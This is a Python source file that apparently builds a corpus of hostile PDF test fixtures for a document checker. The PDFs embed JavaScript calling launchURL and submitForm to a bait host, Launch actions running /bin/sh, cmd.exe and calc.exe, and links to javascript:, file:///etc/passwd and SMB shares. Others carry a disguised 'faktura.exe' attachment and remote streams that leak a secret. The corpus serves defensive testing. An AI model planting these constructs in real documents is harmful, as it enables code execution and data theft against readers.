"""PDFs that would act, ask or fetch."""

from __future__ import annotations

from corpus import attached
from pdf_parts import BOX, one_page, quarters_form, stream

SIGHT = {"pages": 1, "upright": True}
ODD = {**SIGHT, "refused": ("MK-Z10",)}


def link(action: str) -> str:
    return f"<< /Type /Annot /Subtype /Link /Rect [9 9 99 99] /Border [0 0 1] /A << {action} >> >>"


# --- what acts -------------------------------------------------------------------------------------


@attached(".pdf", **SIGHT)
def scripts_wherever_one_can_be(bait):
    code = f"/S /JavaScript /JS (app.launchURL\\('{bait.url}/js', true\\); this.submitForm\\('{bait.url}'\\))"
    return one_page(
        f"<< {code} >>",
        link(code),
        "<< /Subtype /Widget /FT /Tx /T (pole) /V (x) /Rect [9 9 99 99] /AA << /K 6 0 R /C 6 0 R >> >>",
        page=f"{BOX} /AA << /O 6 0 R /C 6 0 R >> /Annots [7 0 R 8 0 R]",
        catalogue="/OpenAction 6 0 R /AA << /WC 6 0 R /DP 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >>"
        " /AcroForm << /Fields [8 0 R] /CO [8 0 R] >> /Outlines << /First 6 0 R >>",
    )


@attached(".pdf", **SIGHT)
def programs_to_be_started(bait):
    return one_page(
        link(f"/S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) /P (-c 'touch {bait.trace}') >>"),
        link("/S /Launch /Win << /F (cmd.exe) /P (/c calc) /O (open) >> /NewWindow true"),
        page=f"{BOX} /Annots [6 0 R 7 0 R]",
        catalogue="/OpenAction << /S /Launch /F (calc.exe) /Next << /S /Named /N /Print >> >>",
    )


@attached(".pdf", **SIGHT)
def links_of_odd_schemes(bait):
    addresses = (
        "javascript:alert\\(1\\)",
        "file:///etc/passwd",
        "\\\\\\\\127.0.0.1\\\\share\\\\a",
        "smb://127.0.0.1/a",
        "data:text/html,<script>1</script>",
        "vbscript:x",
        "JaVaScRiPt:alert\\(1\\)",
        " javascript:x",
        "ms-word:ofe|u|http://127.0.0.1/",
        "",
        "\x00http://x",
    )
    links = [link(f"/S /URI /URI ({address})") for address in addresses]
    far = [
        link("/S /GoToR /F (//127.0.0.1/a.pdf) /D [0 /Fit]"),
        link("/S /GoToE /D [0 /Fit] /T << /R /C /N (a) >>"),
        link(f"/S /SubmitForm /F << /FS /URL /F ({bait.url}) >>"),
        link(f"/S /ImportData /F ({bait.url}/a.fdf)"),
        link("/S /Hide /T (x)"),
    ]
    numbers = " ".join(f"{number} 0 R" for number in range(6, 6 + len(links) + len(far)))
    return one_page(*links, *far, page=f"{BOX} /Annots [{numbers}]")


@attached(".pdf", **SIGHT)
def files_inside(bait):
    return one_page(
        stream(b"MZ" + bytes(300), "/Type /EmbeddedFile"),
        "<< /Type /Filespec /F (faktura.exe) /EF << /F 6 0 R >> /AFRelationship /Data >>",
        "<< /Type /Annot /Subtype /FileAttachment /Rect [9 9 29 29] /FS 7 0 R >>",
        page=f"{BOX} /Annots [8 0 R] /AF [7 0 R]",
        catalogue="/Names << /EmbeddedFiles << /Names [(a) 7 0 R] >> >> /AF [7 0 R] /Collection << /View /T >>",
    )


@attached(".pdf", **SIGHT)
def films_sounds_and_models(bait):
    media = (
        f"<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F ({bait.url}/film.avi) >> /A true >>",
        "<< /Subtype /Sound /Rect [0 0 9 9] /Sound 4 0 R >>",
        "<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>",
        "<< /Subtype /3D /Rect [0 0 9 9] /3DD 4 0 R >>",
        f"<< /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D ({bait.url}) >> >> >> >>",
    )
    return one_page(*media, page=f"{BOX} /Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R]")


@attached(".pdf", pages=1, refused=("MK-Z10", "MK-Z17"))
def content_that_lies_in_another_file(bait):
    outside = f"<< /Length 0 /F << /FS /URL /F ({bait.url}/content) >> >>\nstream\n\nendstream"
    inside = f"<< /Length 0 /F ({bait.secret}) /FFilter [] /Subtype /Image /Width 9 /Height 9 >>\nstream\n\nendstream"
    return one_page(
        outside, inside, page=f"{BOX} /Contents [6 0 R]", content=outside, resources="/XObject << /I 7 0 R >>"
    )


@attached(".pdf", **SIGHT)
def a_drawing_that_stands_for_another_file(bait):
    form = quarters_form(
        f"/Ref << /F << /FS /URL /F ({bait.url}/ref.pdf) >> /Page 0 >> /OPI << /2.0 << >> >>"
    )
    return one_page(form, content="/X Do", resources="/XObject << /X 6 0 R >>")


# --- forms -----------------------------------------------------------------------------------------


@attached(".pdf", refused="MK-Z13")
def a_form_of_xfa_alone(bait):
    return one_page(stream("<xdp/>"), catalogue="/NeedsRendering true /AcroForm << /Fields [] /XFA 6 0 R >>")


@attached(".pdf", refused="MK-Z13")
def a_form_that_asks_to_wait(bait):
    content = "BT /F1 20 Tf 20 200 Td (Please wait... ) Tj ET"
    field = "<< /T (a) /FT /Tx >>"
    return one_page(field, content=content, catalogue="/AcroForm << /Fields [6 0 R] /XFA [(a) (b)] >>")


@attached(".pdf", **SIGHT)
def a_form_of_both_kinds(bait):
    field = "<< /T (a) /FT /Tx /V (b) /Subtype /Widget /Rect [9 9 99 29] >>"
    return one_page(
        field,
        stream("<xdp/>"),
        page=f"{BOX} /Annots [6 0 R]",
        catalogue="/AcroForm << /Fields [6 0 R] /XFA 7 0 R >>",
    )


@attached(".pdf", **ODD)
def fields_in_a_ring(bait):
    return one_page(
        "<< /T (a) /Parent 7 0 R /Kids [7 0 R] /Subtype /Widget /Rect [9 9 9 9] >>",
        "<< /T (b) /Parent 6 0 R /Kids [6 0 R] >>",
        page=f"{BOX} /Annots [6 0 R 6 0 R]",
        catalogue="/AcroForm << /Fields [6 0 R 7 0 R] >>",
    )
